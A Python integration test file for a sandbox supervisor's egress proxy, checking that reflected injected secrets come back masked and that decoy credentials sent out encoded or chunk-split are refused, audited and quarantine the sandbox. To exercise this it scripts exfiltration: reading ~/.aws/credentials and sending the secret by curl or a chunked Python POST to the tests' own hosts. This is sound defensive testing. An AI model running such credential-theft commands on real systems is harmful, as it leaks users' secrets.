"""Reflections and decoys in encodings, through the real supervisor on Podman and Docker: an
HTTPS upstream of the tests' own on 127.0.0.1 reflects the Authorization header it received
(the real value, injected by the proxy) in every encoding tests/unit/encoders.py knows, at
each base64 alignment, with Content-Length and chunked with chunks cut inside the encoded
value, and compressed (gzip, br: decoded by the proxy, masked, sent on plain); curl in the
sandbox gets none of it back. A decoy read from a planted file and sent
base64-, hex- or JSON-encoded in a request body is refused, audited as an alarm and
quarantines the sandbox (the default on_use), and reaches no upstream.

Plain http:// requests with their body cut in chunks: Python in the sandbox POSTs through the
egress proxy to a plain HTTP upstream of the tests' own (plain.test), chunked, its placeholder
or its decoy cut across chunks of two sizes. The proxy decodes the framing, finds the sign
whole and answers 403 before the upstream is dialled; the refusal is audited, the alarm
quarantines the sandbox (placeholders and decoys both do by default), release restores it.
A clean chunked body reaches the upstream whole."""

from __future__ import annotations

import base64
import codecs
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.client import FailedPrecondition, Stockade
from stockade.supervisor.keys import sandbox_id
from stockade.supervisor.policy.honeytokens import derive, load_key
from stockade.supervisor.sandboxes.brokering import installation_key, placeholder
from tests.integration.harness import Supervisor, running_supervisor
from tests.integration.test_brokered_secrets import API_VALUE, ROT13, Upstreams, api_secret_config
from tests.upstream import ReflectingUpstream, reflections

pytestmark = pytest.mark.timeout(600)

JSON_ESCAPED = (
    'python3 -c \'import json, sys; print(json.dumps(sys.stdin.read()).replace("/", "\\\\/"))\''
)
"""The input as a JSON string, slashes escaped as PHP does."""
SEND = """
import http.client, os, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
url, size, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
if secret == "decoy":
    lines = open(os.path.expanduser("~/.aws/credentials")).read().splitlines()
    secret = [l.split("=", 1)[1].strip() for l in lines if "aws_secret" in l][0]
body = b"token=" + secret.encode() + b"&end"
parts = [body[i : i + size] for i in range(0, len(body), size)]
conn = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=20)
headers = {"Transfer-Encoding": "chunked"}
conn.request("POST", url, body=iter(parts), headers=headers, encode_chunked=True)
print(conn.getresponse().status)
"""
"""Posts `token=SECRET&end` chunked in `size`-byte chunks (SECRET: the argument, or the
sandbox's decoy AWS secret read from its planted file: the command names neither sign),
prints the status."""


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstreams]:
    ups = Upstreams(tmp_path_factory.mktemp("upstreams"), api=ReflectingUpstream, plain=True)
    try:
        yield ups
    finally:
        ups.close()


@pytest.fixture(scope="module")
def sup(
    engine: str, upstreams: Upstreams, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Supervisor]:
    config = api_secret_config(upstreams, tmp_path_factory.mktemp("values"), honeytokens=True)
    with running_supervisor(engine, config) as running:
        yield running


@pytest.mark.parametrize(
    "query",
    ["", "?chunked", "?coding=gzip", "?chunked&coding=br"],
    ids=["length", "chunked", "gzip", "chunked-br"],
)
def test_an_upstream_reflecting_the_value_encoded_gives_none_of_it_back(
    sup: Supervisor, upstreams: Upstreams, query: str
) -> None:
    key = f"reflect-{uuid.uuid4().hex[:8]}"
    url = f"https://api.test:{upstreams.api.port}/reflect{query}"
    fetch = f'curl -sS --fail -H "Authorization: Bearer $API_TOKEN" "{url}"'
    # rot13 in the sandbox and back here: the scrubber would hide what it knows, and the
    # test must see what the sandbox really got
    wrapped = f"({fetch}) > /tmp/out 2>&1; rc=$?; tr {ROT13} < /tmp/out; exit $rc"
    with sup.client() as client:
        result = client.sandbox(key).exec(wrapped, timeout=60)
        assert result.exit_code == 0, result
        got = codecs.decode(result.stdout, "rot13").encode().split(b"\n")[:-1]
        sent = reflections(f"Bearer {API_VALUE}".encode())
        assert len(got) == len(sent)
        for line, clear in zip(got, sent, strict=True):
            assert len(line) == len(clear)  # masked in place: the framing held
            assert line != clear, clear
            for form in (API_VALUE.encode(), API_VALUE.encode().hex().encode()):
                assert form[4:-4] not in line.lower()
            assert base64.b64encode(API_VALUE.encode())[4:-4] not in line
        records = client.list_audit(sandbox_key=key, tool="network", limit=100)
        assert any("injected api" in r.policy_step for r in records)
        assert not any(API_VALUE in r.arguments_json + r.policy_step for r in records)


@pytest.mark.parametrize(
    "encode",
    [
        "base64 -w0",
        "od -An -tx1 | tr -d ' \\n'",
        JSON_ESCAPED,
    ],
    ids=["base64", "hex", "json"],
)
def test_a_decoy_sent_encoded_quarantines_the_sandbox(
    sup: Supervisor, upstreams: Upstreams, encode: str, tmp_path: Path
) -> None:
    key = f"enc-decoy-{uuid.uuid4().hex[:8]}"
    decoy = derive(load_key(sup.state_dir), key).aws_secret
    before = len(upstreams.api.requests)
    leak = (
        f"grep aws_secret ~/.aws/credentials | {encode} > /tmp/blob; "
        f'curl -sS -o /dev/null -w "%{{http_code}}" --data-binary @/tmp/blob '
        f"https://api.test:{upstreams.api.port}/collect"
    )
    with sup.client() as client:
        client.sandbox(key).write_file("kept.txt", "kept\n")
        result = client.sandbox(key).exec(leak, timeout=10)
        if result.error_code != "TIMEOUT":  # the freeze may land before the call returns
            assert result.stdout.strip().endswith("403"), result
        assert [r.target for r in upstreams.api.requests[before:]] == []
        with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined"):
            client.sandbox(key).exec("true")
        (alarm,) = client.get_quarantine(key).quarantine.alarms
        assert (alarm.kind, alarm.where) == ("honeytoken", "egress")
        assert decoy not in alarm.evidence
        records = client.list_audit(sandbox_key=key, tool="alarm", limit=10)
        assert [r.policy_step for r in records]  # audited
        client.release_quarantine(key)
        assert client.sandbox(key).exec("cat kept.txt").stdout == "kept\n"


def post(client: Stockade, key: str, upstreams: Upstreams, size: int, secret: str) -> str:
    """The status the sandbox got ("" when the quarantine's freeze came first)."""
    assert upstreams.plain is not None
    client.sandbox(key).write_file("send.py", SEND)
    url = f"http://plain.test:{upstreams.plain.port}/sink"
    result = client.sandbox(key).exec(f"python3 send.py {url} {size} {secret}", timeout=30)
    if result.error_code == "TIMEOUT":  # the freeze may land before the call returns
        return ""
    assert result.exit_code == 0, result
    return result.stdout.strip()


def test_a_clean_chunked_body_reaches_the_plain_upstream_whole(
    sup: Supervisor, upstreams: Upstreams
) -> None:
    assert upstreams.plain is not None
    with sup.client() as client:
        key = f"plain-{uuid.uuid4().hex[:8]}"
        assert post(client, key, upstreams, 3, "nothing-secret") == "200"
    got = upstreams.plain.requests[-1]
    assert got.body == b"token=nothing-secret&end"


@pytest.mark.parametrize("size", [1, 7])
@pytest.mark.parametrize("what", ["placeholder", "decoy"])
def test_a_sign_split_across_plain_http_chunks_is_refused_and_quarantines(
    sup: Supervisor, upstreams: Upstreams, what: str, size: int
) -> None:
    assert upstreams.plain is not None
    key = f"plain-{what}-{uuid.uuid4().hex[:8]}"
    sign = (
        placeholder(installation_key(sup.state_dir), sandbox_id(key), "api")
        if what == "placeholder"
        else derive(load_key(sup.state_dir), key).aws_secret
    )
    connections = upstreams.plain.connections
    with sup.client() as client:
        client.sandbox(key).write_file("kept.txt", "kept\n")
        status = post(client, key, upstreams, size, "decoy" if what == "decoy" else '"$API_TOKEN"')
        assert status in ("403", ""), status
        assert upstreams.plain.connections == connections  # never dialled
        with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined"):
            client.sandbox(key).exec("true")
        (alarm,) = client.get_quarantine(key).quarantine.alarms
        kind = "placeholder" if what == "placeholder" else "honeytoken"
        assert (alarm.kind, alarm.where) == (kind, "egress")
        assert sign not in alarm.evidence
        records = client.list_audit(sandbox_key=key, limit=100)
        refused = [r for r in records if r.tool == "network" and r.is_error]
        assert refused, [(r.tool, r.policy_step) for r in records]
        assert [r for r in records if r.tool == "alarm"]
        for r in records:
            assert sign not in r.arguments_json + r.policy_step
        client.release_quarantine(key)
        assert client.sandbox(key).exec("cat kept.txt").stdout == "kept\n"
